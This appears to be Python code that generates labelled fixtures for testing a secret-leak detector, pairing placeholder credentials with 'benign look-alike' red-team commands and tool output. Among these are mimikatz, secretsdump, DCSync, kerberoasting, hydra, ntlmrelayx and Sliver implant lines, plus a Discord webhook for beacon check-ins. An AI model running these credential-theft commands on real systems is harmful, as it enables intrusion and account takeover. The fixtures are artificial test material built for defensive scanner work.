T(_G, "cloudformation-parameter-default-password", "Parameters:\n  DBPassword:\n    Type: String\n    NoEcho: false\n    Default: «pwx»\n  DBUser:\n    Type: String", "«pwx»", "DBPassword:")
T(_G, "arm-parameters-admin-password", "\"parameters\": {\n  \"adminUsername\": { \"value\": \"azureuser\" },\n  \"adminPassword\": { \"value\": \"«pwx»\" }\n}", "«pwx»", "\"adminUsername\": { \"value\": \"azureuser\" }")
T(_G, "az-vm-create-admin-password", "az vm create -g rg-«slug»-lab -n redteam-vm01 --image Win2022Datacenter --admin-username azureuser --admin-password '«pwx»'", "«pwx»", "-n redteam-vm01")
T(_G, "gcloud-sql-users-set-password", "gcloud sql users set-password postgres --instance=«word»-pg --password='«pwx»'", "«pwx»", "--instance=«word»-pg")
T(_G, "aws-rds-master-user-password", "aws rds create-db-instance --db-instance-identifier «word»-lab --engine mysql --master-username admin --master-user-password '«pwx»' --db-instance-class db.t3.micro", "«pwx»", "--db-instance-identifier «word»-lab")
T(_G, "ci-kubeconfig-token-heredoc", "cat > kubeconfig <<EOF\napiVersion: v1\nclusters: [{name: lab, cluster: {server: https://«ip»:6443}}]\nusers: [{name: ci, user: {token: «jwt»}}]\nEOF", "«jwt»", "server: https://«ip»:6443")
T(_G, "gitlab-ci-trigger-token-curl", "trigger_downstream:\n  script:\n    - curl -X POST -F token=glptt-«hex40» -F ref=main https://gitlab.«webdom»/api/v4/projects/«num»/trigger/pipeline", "glptt-«hex40»", "/trigger/pipeline")
T(_G, "vagrantfile-winrm-password", "config.vm.communicator = \"winrm\"\nconfig.winrm.username = \"vagrant\"\nconfig.winrm.password = \"«pwx»\"\nconfig.vm.box = \"gusztavvargadr/windows-server\"", "«pwx»", "config.vm.communicator = \"winrm\"")
T(_G, "docker-compose-override-gophish-env", "services:\n  gophish:\n    image: gophish/gophish:0.12.1\n    environment:\n      GOPHISH_INITIAL_ADMIN_PASSWORD: «pwx»\n    ports: [\"3333:3333\", \"80:80\"]", "«pwx»", "image: gophish/gophish:0.12.1")
T(_G, "sliver-deploy-script-operator-config-scp", "./sliver-server operator --name «person» --lhost «eip» --save /tmp/«person».cfg\n# token inside cfg: «hex64»\nscp /tmp/«person».cfg «person»@vpn.«webdom»:~", "«hex64»", "./sliver-server operator --name «person»")
T(_G, "github-actions-run-with-password-flag", "- name: Smoke test login\n  run: |\n    ./bin/check-login --url https://staging.«webdom» \\\n      --user qa_bot --password '«pwx»'", "«pwx»", "https://staging.«webdom»")
T(_G, "octopus-style-variable-json", "{\"Name\":\"Smtp.Password\",\"Value\":\"«pwx»\",\"IsSensitive\":false,\"Scope\":{\"Environment\":[\"Production\"]}}", "«pwx»", "\"Name\":\"Smtp.Password\"")
T(_G, "makefile-ci-export-token", "export HF_TOKEN ?= hf_«al34»\nrelease:\n\thuggingface-cli upload «slug»/phish-classifier ./model", "hf_«al34»", "huggingface-cli upload")

# ======================================================================
# group: vendor-token  (vendor credentials in assorted surroundings)
# ======================================================================
_G = "vendor-token"
T(_G, "github-classic-pat-env", "GITHUB_TOKEN=ghp_«an36»\nGITHUB_ORG=«slug»", "ghp_«an36»", "GITHUB_ORG=«slug»")
T(_G, "github-fine-grained-pat-header", "curl -H 'Authorization: token github_pat_«an22»_«an59»' https://api.github.com/orgs/«slug»/repos?per_page=100", "github_pat_«an22»_«an59»", "https://api.github.com/orgs/«slug»/repos")
T(_G, "github-app-installation-token-json", "{\"token\":\"ghs_«an36»\",\"expires_at\":\"«ts»\",\"permissions\":{\"contents\":\"read\"}}", "ghs_«an36»", "\"permissions\":{\"contents\":\"read\"}")
T(_G, "github-user-to-server-token-chat", "«person»: the OAuth app handed back ghu_«an36» for the victim test user, that's the ATO proof", "ghu_«an36»", "that's the ATO proof")
T(_G, "gitlab-runner-registration-token", "gitlab-runner register --url https://gitlab.«webdom» --token glrt-«bu20» --executor docker --description «word»-runner", "glrt-«bu20»", "--executor docker")
T(_G, "gitlab-deploy-token-url", "git clone https://gitlab+deploy-token-«num»:gldt-«bu20»@gitlab.«webdom»/«slug»/configs.git", "gldt-«bu20»", "gitlab.«webdom»/«slug»/configs.git")
T(_G, "slack-bot-token-python-arg", "client = WebClient(token=\"xoxb-«slackid»-«slackid_2»-«an24»\")\nclient.chat_postMessage(channel=\"#redteam-ops\", text=msg)", "xoxb-«slackid»-«slackid_2»-«an24»", "#redteam-ops")
T(_G, "slack-user-token-curl", "curl -s -H 'Authorization: Bearer xoxp-«slackid»-«slackid_2»-«dig13»-«hex32»' 'https://slack.com/api/search.messages?query=password'", "xoxp-«slackid»-«slackid_2»-«dig13»-«hex32»", "https://slack.com/api/search.messages")
T(_G, "slack-app-level-token-env", "SLACK_APP_TOKEN=xapp-1-A«up10»-«dig13»-«hex64»\nSLACK_SOCKET_MODE=true", "xapp-1-A«up10»-«dig13»-«hex64»", "SLACK_SOCKET_MODE=true")
T(_G, "slack-incoming-webhook-url", "ALERT_WEBHOOK=https://hooks.slack.com/services/T«up9»/B«up11»/«an24»", "«an24»", "ALERT_WEBHOOK=https://hooks.slack.com/services/T«up9»")
T(_G, "discord-webhook-url-exfil", "WEBHOOK = \"https://discord.com/api/webhooks/«dig19»/«bu68»\"  # beacon check-ins", "«bu68»", "# beacon check-ins")
T(_G, "discord-bot-token-config", "{\"prefix\": \"!\", \"token\": \"«discid».«bu6».«bu38»\", \"owner_id\": «dig18»}", "«discid».«bu6».«bu38»", "\"prefix\": \"!\"", pre=lambda c: c.update(discid=_b64e(c["dig18"]).rstrip("=")))
T(_G, "telegram-bot-token-url", "https://api.telegram.org/bot«dig10»:AA«bu33»/getUpdates", "«dig10»:AA«bu33»", "https://api.telegram.org/bot")
T(_G, "stripe-secret-key-env", "STRIPE_SECRET_KEY=sk_live_«an24»\nSTRIPE_PUBLISHABLE_KEY=pk_live_«an24_2»", "sk_live_«an24»", "STRIPE_PUBLISHABLE_KEY")
T(_G, "stripe-restricted-key-curl-u", "curl https://api.stripe.com/v1/customers -u rk_live_«an99»: -d limit=3", "rk_live_«an99»", "https://api.stripe.com/v1/customers")
T(_G, "stripe-webhook-signing-secret", "endpoint_secret = 'whsec_«an32»'\nevent = stripe.Webhook.construct_event(payload, sig_header, endpoint_secret)", "whsec_«an32»", "stripe.Webhook.construct_event")
T(_G, "twilio-auth-token-with-sid", "TWILIO_ACCOUNT_SID=AC«hex32_2»\nTWILIO_AUTH_TOKEN=«hex32»\nTWILIO_FROM=+1555«dig7»", "«hex32»", "TWILIO_ACCOUNT_SID")
T(_G, "twilio-api-key-secret-pair", "client = Client('SK«hex32»', '«an32»', account_sid)", "«an32»", "account_sid")
T(_G, "sendgrid-key-yaml", "smtp:\n  provider: sendgrid\n  api_key: SG.«bu22».«bu43»", "SG.«bu22».«bu43»", "provider: sendgrid")
T(_G, "mailgun-api-key-curl", "curl -s --user 'api:key-«hex32»' https://api.mailgun.net/v3/mg.«webdom»/messages -F to=«email»", "key-«hex32»", "https://api.mailgun.net/v3/mg.«webdom»/messages")
T(_G, "mailchimp-api-key-dc-suffix", "MAILCHIMP_API_KEY=«hex32»-us«dig2»", "«hex32»-us«dig2»", "MAILCHIMP_API_KEY")
T(_G, "openai-project-key-dotenv", "# .env.local\nOPENAI_API_KEY=sk-proj-«bu64»T3BlbkFJ«bu64_2»\nOPENAI_MODEL=gpt-4o-mini", "sk-proj-«bu64»T3BlbkFJ«bu64_2»", "OPENAI_MODEL=gpt-4o-mini")
T(_G, "anthropic-api-key-header", "curl https://api.anthropic.com/v1/messages -H 'x-api-key: sk-ant-api03-«bu93»AA' -H 'anthropic-version: 2023-06-01'", "sk-ant-api03-«bu93»AA", "anthropic-version: 2023-06-01")
T(_G, "google-api-key-query-param", "https://maps.googleapis.com/maps/api/geocode/json?address=1600+Main+St&key=AIza«bu35»", "AIza«bu35»", "maps.googleapis.com/maps/api/geocode/json")
T(_G, "google-oauth-client-secret-json", "{\"installed\":{\"client_id\":\"«dig12»-«low32».apps.googleusercontent.com\",\"client_secret\":\"GOCSPX-«bu28»\",\"redirect_uris\":[\"http://localhost\"]}}", "GOCSPX-«bu28»", "apps.googleusercontent.com")
T(_G, "google-refresh-token-json", "{\"refresh_token\": \"1//0«bu100»\", \"client_id\": \"«dig12»-«low32».apps.googleusercontent.com\", \"type\": \"authorized_user\"}", "1//0«bu100»", "\"type\": \"authorized_user\"")
T(_G, "azure-storage-connection-string", "AZURE_STORAGE_CONNECTION_STRING=DefaultEndpointsProtocol=https;AccountName=«slug»stor;AccountKey=«azkey»;EndpointSuffix=core.windows.net", "«azkey»", "AccountName=«slug»stor")
T(_G, "azure-ad-client-secret-env", "AZURE_TENANT_ID=«uuid»\nAZURE_CLIENT_ID=«uuid_2»\nAZURE_CLIENT_SECRET=«an3»8Q~«bu34»", "«an3»8Q~«bu34»", "AZURE_TENANT_ID=«uuid»")
T(_G, "azure-devops-pat-basic", "git -c http.extraHeader=\"Authorization: Basic «adobasic»\" clone https://dev.azure.com/«slug»/Infra/_git/pipelines", "«adobasic»", "https://dev.azure.com/«slug»/Infra/_git/pipelines", pre=lambda c: c.update(adobasic=_b64e(":" + c["btl52"])))
T(_G, "npm-granular-token-npmrc-env", "NPM_CONFIG_//registry.npmjs.org/:_authToken=npm_«an36»", "npm_«an36»", "registry.npmjs.org")
T(_G, "pypi-api-token-twine", "twine upload -u __token__ -p pypi-AgEIcHlwaS5vcmc«bu120» dist/*", "pypi-AgEIcHlwaS5vcmc«bu120»", "twine upload -u __token__")
T(_G, "docker-hub-pat-login", "echo dckr_pat_«bu27» | docker login -u «user» --password-stdin", "dckr_pat_«bu27»", "docker login -u «user»")
T(_G, "vault-service-token-env", "export VAULT_ADDR=https://vault.«fqdn»\nexport VAULT_TOKEN=hvs.CAESI«bu88»", "hvs.CAESI«bu88»", "export VAULT_ADDR=https://vault.«fqdn»")
T(_G, "terraform-cloud-credentials-tfrc", "credentials \"app.terraform.io\" {\n  token = \"«an14».atlasv1.«an67»\"\n}", "«an14».atlasv1.«an67»", "credentials \"app.terraform.io\"")
T(_G, "datadog-api-and-app-keys", "DD_API_KEY=«hex32»\nDD_APP_KEY=«hex40»\nDD_SITE=datadoghq.com", "«hex40»", "DD_SITE=datadoghq.com")
T(_G, "newrelic-user-key-header", "curl -X POST https://api.newrelic.com/graphql -H 'API-Key: NRAK-«up27»' -d @query.json", "NRAK-«up27»", "https://api.newrelic.com/graphql")
T(_G, "sentry-dsn-with-secret-legacy", "SENTRY_DSN=https://«hex32»:«hex32_2»@sentry.«webdom»/«num»", "«hex32_2»", "sentry.«webdom»")
T(_G, "huggingface-token-login", "huggingface-cli login --token hf_«al34» --add-to-git-credential", "hf_«al34»", "--add-to-git-credential")
T(_G, "digitalocean-token-doctl", "doctl auth init --access-token dop_v1_«hex64» --context redteam", "dop_v1_«hex64»", "--context redteam")
T(_G, "cloudflare-global-api-key-headers", "-H 'X-Auth-Email: «email»' -H 'X-Auth-Key: «hex37»'", "«hex37»", "X-Auth-Email: «email»")
T(_G, "okta-ssws-api-token", "curl -H 'Authorization: SSWS 00«bu40»' https://«slug».okta.test/api/v1/users?limit=200", "00«bu40»", "https://«slug».okta.test/api/v1/users")
T(_G, "atlassian-api-token-basic-pair", "JIRA_USER=«email»\nJIRA_API_TOKEN=ATATT3xFfGF0«bu180»=«HEX8»", "ATATT3xFfGF0«bu180»=«HEX8»", "JIRA_USER=«email»")
T(_G, "notion-integration-secret", "const notion = new Client({ auth: 'ntn_«an46»' });", "ntn_«an46»", "new Client(")
T(_G, "linear-api-key-header", "-H 'Authorization: lin_api_«an40»' https://api.linear.app/graphql", "lin_api_«an40»", "https://api.linear.app/graphql")
T(_G, "postman-api-key", "POSTMAN_API_KEY=PMAK-«hex24»-«hex34»", "PMAK-«hex24»-«hex34»", "POSTMAN_API_KEY")
T(_G, "grafana-service-account-token", "curl -H 'Authorization: Bearer glsa_«an32»_«hex8»' https://grafana.«fqdn»/api/datasources", "glsa_«an32»_«hex8»", "https://grafana.«fqdn»/api/datasources")
T(_G, "doppler-service-token", "doppler run --token dp.st.prd.«an40» -- ./start.sh", "dp.st.prd.«an40»", "-- ./start.sh")
T(_G, "pulumi-access-token-env", "PULUMI_ACCESS_TOKEN=pul-«hex40»", "pul-«hex40»", "PULUMI_ACCESS_TOKEN")
T(_G, "databricks-pat-cfg", "[DEFAULT]\nhost = https://adb-«dig16».12.azuredatabricks.net\ntoken = dapi«hex32»", "dapi«hex32»", "azuredatabricks.net")
T(_G, "shopify-admin-token-header", "X-Shopify-Access-Token: shpat_«hex32»", "shpat_«hex32»", "X-Shopify-Access-Token")
T(_G, "square-access-token-env", "SQUARE_ENVIRONMENT=production\nSQUARE_ACCESS_TOKEN=EAAA«bu60»", "EAAA«bu60»", "SQUARE_ENVIRONMENT=production")
T(_G, "mapbox-secret-token", "MAPBOX_DOWNLOADS_TOKEN=sk.eyJ1Ijoi«bu20»IiwiYSI6I«bu20_2»In0.«bu22»", "sk.eyJ1Ijoi«bu20»IiwiYSI6I«bu20_2»In0.«bu22»", "MAPBOX_DOWNLOADS_TOKEN")
T(_G, "alibaba-accesskey-pair", "aliyun configure set --access-key-id LTAI«an20» --access-key-secret «an30» --region cn-hangzhou", "«an30»", "--region cn-hangzhou")
T(_G, "tencent-secretkey-pair", "TENCENTCLOUD_SECRET_ID=AKID«an32»\nTENCENTCLOUD_SECRET_KEY=«an32_2»", "«an32_2»", "TENCENTCLOUD_SECRET_ID")
T(_G, "ngrok-authtoken-config", "version: \"2\"\nauthtoken: 2«an26»_«an21»\ntunnels:\n  c2: {proto: tcp, addr: «port»}", "2«an26»_«an21»", "tunnels:")
T(_G, "tailscale-auth-key", "tailscale up --authkey tskey-auth-k«an11»CNTRL-«an33» --hostname redteam-dropbox-«num»", "tskey-auth-k«an11»CNTRL-«an33»", "--hostname redteam-dropbox-«num»")
T(_G, "shodan-cli-init", "shodan init «an32»", "«an32»", "shodan init")
T(_G, "virustotal-apikey-header", "curl -s -H 'x-apikey: «hex64»' https://www.virustotal.com/api/v3/files/«hex64_2»", "«hex64»", "https://www.virustotal.com/api/v3/files/«hex64_2»")
T(_G, "censys-api-id-secret-pair", "censys config\nCensys API ID: «uuid»\nCensys API Secret: «an32»\nSuccessfully authenticated", "«an32»", "Successfully authenticated")
T(_G, "hunter-io-key-query", "https://api.hunter.io/v2/domain-search?domain=«webdom»&api_key=«hex40»", "«hex40»", "https://api.hunter.io/v2/domain-search?domain=«webdom»")
T(_G, "hibp-api-key-header", "hibp-api-key: «hex32»\nuser-agent: pt-breach-check", "«hex32»", "user-agent: pt-breach-check")
T(_G, "burp-rest-api-key-in-path", "curl -s http://127.0.0.1:1337/«an32»/v0.1/scan -d '{\"urls\":[\"https://app.«webdom»\"]}'", "«an32»", "/v0.1/scan")
T(_G, "nessus-api-keys-header", "X-ApiKeys: accessKey=«hex64_2»; secretKey=«hex64»", "«hex64»", "X-ApiKeys: accessKey=«hex64_2»")
T(_G, "urlscan-uuid-api-key", "curl -X POST https://urlscan.io/api/v1/scan/ -H 'API-Key: «uuid»' -d '{\"url\":\"https://login.«webdom»\",\"visibility\":\"private\"}'", "«uuid»", "https://urlscan.io/api/v1/scan/")
T(_G, "ipinfo-token-query", "curl ipinfo.io/«eip»?token=«hex14»", "«hex14»", "curl ipinfo.io/«eip»")
T(_G, "projectdiscovery-cloud-api-key", "export PDCP_API_KEY=«uuid»\nsubfinder -d «webdom» -all -silent | httpx -silent", "«uuid»", "subfinder -d «webdom»")
T(_G, "hackerone-api-token-basic-curl", "curl https://api.hackerone.com/v1/hackers/programs -u '«user»:«bs43»='", "«bs43»=", "https://api.hackerone.com/v1/hackers/programs")
T(_G, "splunk-hec-token-header", "curl -k https://splunk.«fqdn»:8088/services/collector -H 'Authorization: Splunk «uuid»' -d '{\"event\":\"test\"}'", "«uuid»", "/services/collector")
T(_G, "elastic-api-key-header", "curl -H 'Authorization: ApiKey «esk»' https://«ip»:9200/_cat/indices", "«esk»", "https://«ip»:9200/_cat/indices", pre=lambda c: c.update(esk=_b64e(c["bu20"] + ":" + c["bu22"])))
T(_G, "firebase-fcm-server-key", "Authorization: key=AAAA«bu7»:APA91b«bu134»", "AAAA«bu7»:APA91b«bu134»", "Authorization: key=")
T(_G, "supabase-service-role-jwt", "SUPABASE_URL=https://«low20».supabase.co\nSUPABASE_SERVICE_ROLE_KEY=«jwt»", "«jwt»", "SUPABASE_URL=https://«low20».supabase.co")
T(_G, "planetscale-password", "DATABASE_URL=mysql://«low12»:pscale_pw_«bu43»@aws.connect.psdb.cloud/«db»?sslaccept=strict", "pscale_pw_«bu43»", "aws.connect.psdb.cloud/«db»")
T(_G, "airtable-pat", "AIRTABLE_TOKEN=pat«an14».«hex64»", "pat«an14».«hex64»", "AIRTABLE_TOKEN")
T(_G, "figma-personal-token", "X-Figma-Token: figd_«bu40»", "figd_«bu40»", "X-Figma-Token")
T(_G, "dropbox-short-lived-token", "dbx = dropbox.Dropbox(\"sl.«bu130»\")", "sl.«bu130»", "dropbox.Dropbox(")
T(_G, "contentful-cma-token", "CONTENTFUL_MANAGEMENT_TOKEN=CFPAT-«bu43»", "CFPAT-«bu43»", "CONTENTFUL_MANAGEMENT_TOKEN")
T(_G, "bitbucket-app-password", "BITBUCKET_USER=«user»\nBITBUCKET_APP_PASSWORD=ATBB«an32»«HEX8»", "ATBB«an32»«HEX8»", "BITBUCKET_USER=«user»")
T(_G, "sonarqube-user-token", "sonar-scanner -Dsonar.host.url=https://sonar.«fqdn» -Dsonar.token=squ_«hex40»", "squ_«hex40»", "-Dsonar.host.url=https://sonar.«fqdn»")
T(_G, "circleci-personal-token", "curl -H 'Circle-Token: CCIPAT_«an22»_«hex40»' https://circleci.com/api/v2/me", "CCIPAT_«an22»_«hex40»", "https://circleci.com/api/v2/me")
T(_G, "jfrog-identity-token", "jf c add «slug» --url=https://«slug».jfrog.test --access-token=cmVmdGtuOjAxOjE3«bu50»", "cmVmdGtuOjAxOjE3«bu50»", "jf c add «slug»")
T(_G, "age-secret-key-file", "# created: 2025-02-11T09:14:00Z\n# public key: age1«bech»\n«age»", "«age»", "# public key: age1«bech»")
T(_G, "ibm-cloud-api-key-login", "ibmcloud login --apikey «bu44» -r eu-de", "«bu44»", "ibmcloud login")
T(_G, "scaleway-secret-key", "SCW_ACCESS_KEY=SCW«up17»\nSCW_SECRET_KEY=«uuid»", "«uuid»", "SCW_ACCESS_KEY=SCW«up17»")
T(_G, "backblaze-b2-application-key", "b2 account authorize 005«hex22» K005«bu27»", "K005«bu27»", "b2 account authorize")
T(_G, "cloudinary-url-secret", "CLOUDINARY_URL=cloudinary://«dig15»:«bu27»@«slug»", "«bu27»", "CLOUDINARY_URL=cloudinary://«dig15»")
T(_G, "hubspot-private-app-token", "Authorization: Bearer pat-na1-«uuid»", "pat-na1-«uuid»", "Authorization: Bearer")
T(_G, "crowdstrike-falcon-client-secret", "falcon = OAuth2(client_id=\"«hex32»\", client_secret=\"«an40»\", base_url=\"us-2\")", "«an40»", "base_url=\"us-2\"")
T(_G, "mythic-api-token-header", "curl -sk https://«eip»:7443/graphql/ -H 'apitoken: «jwt»' -d '{\"query\":\"{callback{id}}\"}'", "«jwt»", "https://«eip»:7443/graphql/")
T(_G, "bloodhound-ce-api-token-pair", "BHE_TOKEN_ID=«uuid»\nBHE_TOKEN_KEY=«bs80»==", "«bs80»==", "BHE_TOKEN_ID=«uuid»")

# ======================================================================
# BENIGN look-alikes (no credential inside)
# ======================================================================
def _colonhex(c):
    return ":".join(_s(_HEXU, 2) for _ in range(32))


def _b64txt(c):
    return _b64e(_pick(["Quarterly phishing awareness results attached",
                        "hello from the %s red team" % c["client"],
                        "scope: 10.0.0.0/8 excluding OT VLANs",
                        "see ticket %s for the retest window" % c["ticket"],
                        "user=%s;role=viewer;theme=dark" % c["user"],
                        "{\"page\":%s,\"sort\":\"date\"}" % c["num"]]))


def _psenc(c):
    cmd = _pick(["Get-Process | Sort-Object CPU -Descending | Select -First 5",
                 "Get-Service -Name WinRM", "whoami /groups", "Get-Date -Format o",
                 "Test-NetConnection %s -Port 445" % c["host"], "hostname; ipconfig /all"])
    return base64.b64encode(cmd.encode("utf-16-le")).decode("ascii")


def _md5(s):
    return hashlib.md5(s.encode()).hexdigest()


def _sha1(s):
    return hashlib.sha1(s.encode()).hexdigest()


def _sha256(s):
    return hashlib.sha256(s.encode()).hexdigest()


_GENS.update({"fp": _colonhex, "b64txt": _b64txt, "psenc": _psenc,
              "onion": lambda c: _s(_B32L, 56), "btc": lambda c: "bc1q" + _s("qpzry9x8gf2tvdw0s3jn54khce6mua7l", 38),
              "ver": lambda c: "%d.%d.%d" % (_R.randrange(0, 9), _R.randrange(0, 30), _R.randrange(0, 40)),
              "FQDN": lambda c: c["fqdn"].upper(),
              "hexcol": lambda c: ":".join(_s(_HEX, 2) for _ in range(16))})

_B = []


def B(text):
    _B.append(text)


_TV = [("", "empty string"), ("password", "password"), ("hashcat", "hashcat"),
       ("The quick brown fox jumps over the lazy dog", "quick brown fox"), ("abc", "abc")]

# --- commands -----------------------------------------------------------
B("hashcat -m 1000 -a 0 loot/«slug»_ntds.ntlm /usr/share/wordlists/rockyou.txt -r rules/best64.rule --potfile-path «slug».pot")
B("nxc smb «ip» -u «user» -p passwords.txt --no-bruteforce --continue-on-success")
B("secretsdump.py -k -no-pass «fqdn»/«user»@«host».«fqdn» -just-dc-user krbtgt")
B("export KRB5CCNAME=/tmp/«user».ccache && klist")
B("$ git rev-parse HEAD\n«sha»")
B("$ sha256sum «word»-agent.exe\n«hex64»  «word»-agent.exe")
B("curl -H \"Authorization: Bearer $GITLAB_TOKEN\" https://gitlab.«webdom»/api/v4/projects?per_page=100")
B("docker login registry.«webdom» -u «user» --password-stdin < /run/secrets/registry_password")
B("aws sts get-caller-identity --profile «slug»-readonly")
B("vault kv get -field=password secret/engagements/«slug»/db")
B("kubectl get secret «word»-creds -n «word» -o jsonpath='{.data}' | jq 'keys'")
B("mysql -h «ip» -u root -p   # prompts for the password interactively")
B("evil-winrm -i «ip» -u «user» -p \"$(pass show clients/«slug»/«user»)\"")
B("hashcat -m 22000 «ssid».hc22000 -a 3 '?d?d?d?d?d?d?d?d' --status --status-timer 60")
B("hcxpcapngtool -o «ssid».hc22000 -E essidlist capture-«date».pcapng")
B("sudo responder -I eth0 -wd -v   # analyse mode first: responder -I eth0 -A")
B("ntlmrelayx.py -tf smb_nosigning.txt -smb2support --adcs --template DomainController")
B("$ ssh-keygen -lf ~/.ssh/id_ed25519.pub\n256 SHA256:«bs43» «user»@lab-kali (ED25519)")
B("$ gpg --list-keys «email»\npub   rsa4096 2023-01-10 [SC] [expires: 2026-01-10]\n      «HEX40»\nuid           [ultimate] «person» <«email»>")
B("$ openssl x509 -in «host».crt -noout -fingerprint -sha256\nsha256 Fingerprint=«fp»")
B("certipy find -u «user»@«fqdn» -p \"$PT_PASS\" -dc-ip «ip» -vulnerable -stdout")
B("sqlmap -r login_req.txt --batch --level 5 --risk 3 --passwords --threads 4")
B("john --wordlist=/usr/share/wordlists/rockyou.txt --format=NT --rules=KoreLogic hashes_«slug».txt")
B("hydra -L users.txt -P /usr/share/seclists/Passwords/Common-Credentials/10k-most-common.txt -t 4 ssh://«ip»")
B("mimikatz # sekurlsa::logonpasswords full")
B("Rubeus.exe kerberoast /outfile:C:\\Users\\Public\\«word».txt /nowrap /rc4opsec")
B("GetNPUsers.py «fqdn»/ -usersfile users.txt -no-pass -dc-ip «ip» -format hashcat")
B("aws s3 ls s3://«slug»-backups --no-sign-request --recursive | head")
B("$ gh auth status\ngithub.com\n  ✓ Logged in to github.com account «user» (keyring)\n  - Token: gho_************************************")
B("pip download «word»==«ver» --no-deps --require-hashes --hash sha256:«hex64»")
B("kerbrute userenum -d «fqdn» --dc «ip» /usr/share/seclists/Usernames/xato-net-10-million-usernames.txt")
B("Invoke-Mimikatz -Command '\"lsadump::dcsync /domain:«fqdn» /user:«dom»\\krbtgt\"'")
B("openssl rand -hex 32 > /run/secrets/jwt_key   # generated on the host, never printed")
B("echo -n \"$REG_PASS\" | docker login ghcr.io -u «user» --password-stdin")
B("powershell.exe -NoProfile -EncodedCommand «psenc»")
B("$ echo «b64txt» | base64 -d")
B("nmap -p- -sV --script ssl-cert,ssh-hostkey -oA scans/«slug»_full «ip»/24")
B("gophish --config config.json   # admin password printed once on first start, stored in 1Password")
B("sliver > generate --mtls «eip»:8888 --os windows --arch amd64 --save /tmp/«word».exe")
B("certutil -hashfile C:\\Windows\\Temp\\«word».dll SHA256")
B("Get-FileHash -Algorithm SHA256 .\\«word».ps1 | Format-List")
B("aircrack-ng -w /usr/share/wordlists/rockyou.txt -b «mac» «ssid»-01.cap")
B("airodump-ng --bssid «mac» -c 6 -w «ssid» wlan0mon")
B("ssh -i ~/.ssh/«slug»_ed25519 -J jump@«eip» «user»@«ip»")
B("pass insert clients/«slug»/«user»   # typed interactively, not echoed")
B("az keyvault secret show --vault-name kv-«slug»-prod --name sql-admin --query id -o tsv")
B("op read 'op://PT-«slug»/Domain Admin/password' > /dev/null && echo ok")
B("git log --all -S 'password' --oneline -- config/  # look for historic credential commits")
B("trufflehog git file://. --only-verified --json > th_«slug».json")
B("gitleaks detect --source . --report-format sarif --report-path gl_«date».sarif --redact")

# --- tool output ------------------------------------------------------
B("[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)\nAdministrator:500:aad3b435b51404eeaad3b435b51404ee:[REDACTED]:::\n«user»:«rid»:aad3b435b51404eeaad3b435b51404ee:[REDACTED]:::")
B("Guest:501:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0::: (NT hash of the empty string; account disabled)")
B("Session..........: «slug»\nStatus...........: Exhausted\nHash.Mode........: 1000 (NTLM)\nRecovered........: 0/«num» (0.00%) Digests\nSpeed.#1.........:  «num».4 GH/s")
B("SMB  «ip»  445  «host»  [-] «fqdn»\\«user»:******** STATUS_LOGON_FAILURE")
B("«date» «time» >  [+] VALID USERNAME:\t «user»@«fqdn»")
B("Found unverified result 🐷🔑❓\nDetector Type: AWS\nRaw result: AKIAIOSFODNN7EXAMPLE\nFile: docs/aws-setup.md (AWS documentation sample key)")
B("{\"Description\": \"Generic API Key\", \"Secret\": \"REDACTED\", \"File\": \"«word»/settings.py\", \"RuleID\": \"generic-api-key\", \"Commit\": \"«sha»\"}")
B("wdigest :\n * Username : «user»\n * Domain   : «dom»\n * Password : (null)")
B("msv :\n * Username : «svc»\n * Domain   : «dom»\n * NTLM     : <masked in report, see vault>")
B("[*] Skipping previously captured hash for «dom»\\«user»")
B("| ssh-hostkey:\n|   256 «hexcol» (ECDSA)\n|_  256 «hexcol» (ED25519)")
B("$ curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/\n«word»-ec2-role")
B("{\n    \"UserId\": \"AROA«bt17»:i-«hex17»\",\n    \"Account\": \"«dig12»\",\n    \"Arn\": \"arn:aws:sts::«dig12»:assumed-role/«word»-ec2-role/i-«hex17»\"\n}")
B("{\"AccessKeyMetadata\": [{\"UserName\": \"«word»-ci\", \"AccessKeyId\": \"AKIA«bt16»\", \"Status\": \"Inactive\", \"CreateDate\": \"«ts»\"}]}")
B("NAME                  TYPE                                  DATA   AGE\n«word»-db-creds       Opaque                                2      41d\ndefault-token-«low5»   kubernetes.io/service-account-token   3      212d")
B("REPOSITORY            TAG       IMAGE ID       CREATED\nregistry.«webdom»/«word»   «ver»   «hex12»   3 days ago")
B("[«time»] [INFO] fetching database users password hashes\n[«time»] [WARNING] unable to retrieve the password hashes for the database users")
B(" CH  6 ][ Elapsed: 2 mins ][ «date» ][ WPA handshake: «mac»")
B("                               KEY NOT FOUND\n      Passphrase not in dictionary")
B("Campaign «client» Q2: 412 sent, 97 opened, 31 clicked, 6 submitted data (capture_passwords disabled)")
B("Burp Collaborator payload: «low30».oastify.com (2 DNS interactions, 1 HTTP)")
B("[«low20»] Received DNS interaction (A) from «eip» at «ts»")
B("JWT header: {\"alg\":\"RS256\",\"kid\":\"«hex40»\",\"typ\":\"JWT\"}  (kid is a public key id from /.well-known/jwks.json)")
B("{\"keys\":[{\"kty\":\"RSA\",\"kid\":\"«bu43»\",\"use\":\"sig\",\"alg\":\"RS256\",\"e\":\"AQAB\",\"n\":\"«bu86»\"}]}")
B("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI«bs43» «user»@lab-kali")
B("-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE«bs28»\n«bs58»==\n-----END PUBLIC KEY-----")
B("-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIU«bs44»\n«bs64»\n«bs64_2»\n-----END CERTIFICATE-----")
B("Certificate Thumbprint: «HEX40»\nSubject: CN=«host».«fqdn»\nIssuer: CN=«slug»-CA")
B("LDAP  «ip»  389  «host»  [-] No LAPS attribute readable by «user» (ms-Mcs-AdmPwd not returned)")
B("[+] Kerberoastable accounts: 4 («svc», svc_mssql, svc_iis, svc_report) - hashes written to kerberoast.hashes")
B("hashcat -m 1000 example hash: b4b9b02e6f09a9bd760f388b67351e2b (plaintext: hashcat)")
B("gitleaks: 0 leaks found, 1,204 commits scanned in 2.1s")
B("Defender: HackTool:Win32/Mimikatz.D detected — file C:\\Users\\«user»\\Downloads\\m.zip SHA256 «hex64»")
B("Nessus plugin 10860: SMB Use Host SID to Enumerate Local Users — Guest, Administrator, «user» (no passwords disclosed)")
B("$ nxc smb «ip» --pass-pol\nMinimum password length: 12\nPassword history length: 24\nAccount Lockout Threshold: 5\nReset Account Lockout Counter: 30 minutes")
